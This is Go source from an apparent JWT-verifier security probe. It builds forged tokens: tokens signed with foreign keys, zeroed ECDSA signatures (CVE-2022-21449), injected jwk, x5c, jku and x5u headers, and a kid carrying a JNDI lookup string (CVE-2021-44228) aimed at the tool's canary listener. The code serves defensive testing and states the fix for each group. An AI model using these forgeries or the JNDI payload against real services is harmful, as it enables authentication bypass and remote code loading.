package probe

import (
	"encoding/base64"
	"math/big"

	"m2m/internal/jsonobject"
)

const (
	fixForeign = "verify with the issuer's own keys alone, chosen by the exact kid from its key set; refuse a kid that is not in it"
	fixNamed   = "never take a key, or the address of one, from the token: ignore or refuse jwk, jku, x5c and x5u, and compare iss with a configured value before anything is fetched; RFC 8725 section 3.10"
)

// foreignKeyCases are signed, but not with a key of the issuer.
func foreignKeyCases() []Case {
	signed := func(alg string, change func(jsonobject.Object) jsonobject.Object, sign signer) func(*kit) (string, error) {
		return headed(func(o jsonobject.Object) jsonobject.Object { return change(o.With("alg", jsonobject.Quote(alg))) }, sign)
	}
	same := func(o jsonobject.Object) jsonobject.Object { return o }
	otherKID := func(o jsonobject.Object) jsonobject.Object { return o.With("kid", jsonobject.Quote(ownKID)) }
	noKID := func(o jsonobject.Object) jsonobject.Object { return o.Without("kid", "x5t", "x5t#S256") }
	order := encode256(orderP256())
	return forgeries(ForeignKey, Critical, fixForeign,
		row{"foreign-key", "RS256 with a key of ours and the issuer's kid", signed("RS256", same, ownKey)},
		row{"foreign-key-unknown-kid", "RS256 with a key of ours and an unknown kid", signed("RS256", otherKID, ownKey)},
		row{"foreign-key-no-kid", "RS256 with a key of ours and no kid", signed("RS256", noKID, ownKey)},
		row{"foreign-key-ps256", "PS256 with a key of ours and the issuer's kid", signed("PS256", same, ownKeyPSS)},
		row{"foreign-key-es256", "ES256 with a key of ours and the issuer's kid", signed("ES256", same, ownCurve)},
		row{"es256-zero", "ES256 with r = s = 0 (CVE-2022-21449)", signed("ES256", same, fixed(make([]byte, 64)))},
		row{"es256-order", "ES256 with r = s = the order of the curve", signed("ES256", same, fixed(append(order, order...)))},
		row{"es384-zero", "ES384 with r = s = 0", signed("ES384", same, fixed(make([]byte, 96)))},
		row{"eddsa-zero", "EdDSA with a signature of zeros", signed("EdDSA", same, fixed(make([]byte, 64)))},
	)
}

// orderP256 is n of P-256 (FIPS 186-5, SP 800-186 section 3.2.1.3).
func orderP256() *big.Int {
	n, _ := new(big.Int).SetString("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)
	return n
}

func encode256(n *big.Int) []byte { return n.FillBytes(make([]byte, 32)) }

// namedKeyCases bring the key along, or say where it is. Where an address is
// said, it is that of our listener, so that a fetch is seen.
func namedKeyCases() []Case {
	header := func(change func(k *kit, o jsonobject.Object) jsonobject.Object) func(*kit) (string, error) {
		return func(k *kit) (string, error) {
			return k.forged(change(k, k.header.With("alg", `"RS256"`)).String(), k.payload, ownKey)
		}
	}
	address := func(name, member, tail, scheme string) func(*kit) (string, error) {
		return header(func(k *kit, o jsonobject.Object) jsonobject.Object {
			return o.With("kid", jsonobject.Quote(ownKID)).With(member, jsonobject.Quote(k.canary.lure(scheme, name)+tail))
		})
	}
	issuer := func(name, scheme string) func(*kit) (string, error) {
		return func(k *kit) (string, error) {
			header := k.header.With("alg", `"RS256"`).With("kid", jsonobject.Quote(ownKID)).String()
			claims := k.claims.With("iss", jsonobject.Quote(k.canary.lure(scheme, name))).String()
			return k.forged(header, []byte(claims), ownKey)
		}
	}
	return forgeries(NamedKey, Critical, fixNamed,
		row{"jwk", "our key in jwk", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
			return o.With("jwk", k.ownJWK(ownKID)).With("kid", jsonobject.Quote(ownKID))
		})},
		row{"jwk-same-kid", "our key in jwk, with the issuer's kid", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
			return o.With("jwk", k.ownJWK(o.Text("kid")))
		})},
		row{"x5c", "our own certificate in x5c", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
			return o.With("x5c", list(base64.StdEncoding.EncodeToString(k.certificate)))
		})},
		row{"jku", "jku names our listener, where our key set is", address("jku", "jku", "/keys", "http")},
		row{"jku-https", "jku names our listener with https", address("jku-https", "jku", "/keys", "https")},
		row{"x5u", "x5u names our listener, where our certificate is", address("x5u", "x5u", "/certificate.pem", "http")},
		row{"x5u-https", "x5u names our listener with https", address("x5u-https", "x5u", "/certificate.pem", "https")},
		row{"kid-url", "the kid is the address of our listener", address("kid-url", "kid", "/keys", "http")},
		row{"kid-jndi", "the kid is a JNDI look-up at our listener (CVE-2021-44228)", header(func(k *kit, o jsonobject.Object) jsonobject.Object {
			return o.With("kid", jsonobject.Quote("${jndi:"+k.canary.lure("ldap", "kid-jndi")+"}"))
		})},
		row{"iss-url", "iss names our listener, which has discovery and keys", issuer("iss-url", "http")},
		row{"iss-url-https", "iss names our listener with https", issuer("iss-url-https", "https")},
	)
}

// ownKID is the key ID of our own key where it does not take the issuer's.
const ownKID = "m2m-probe"
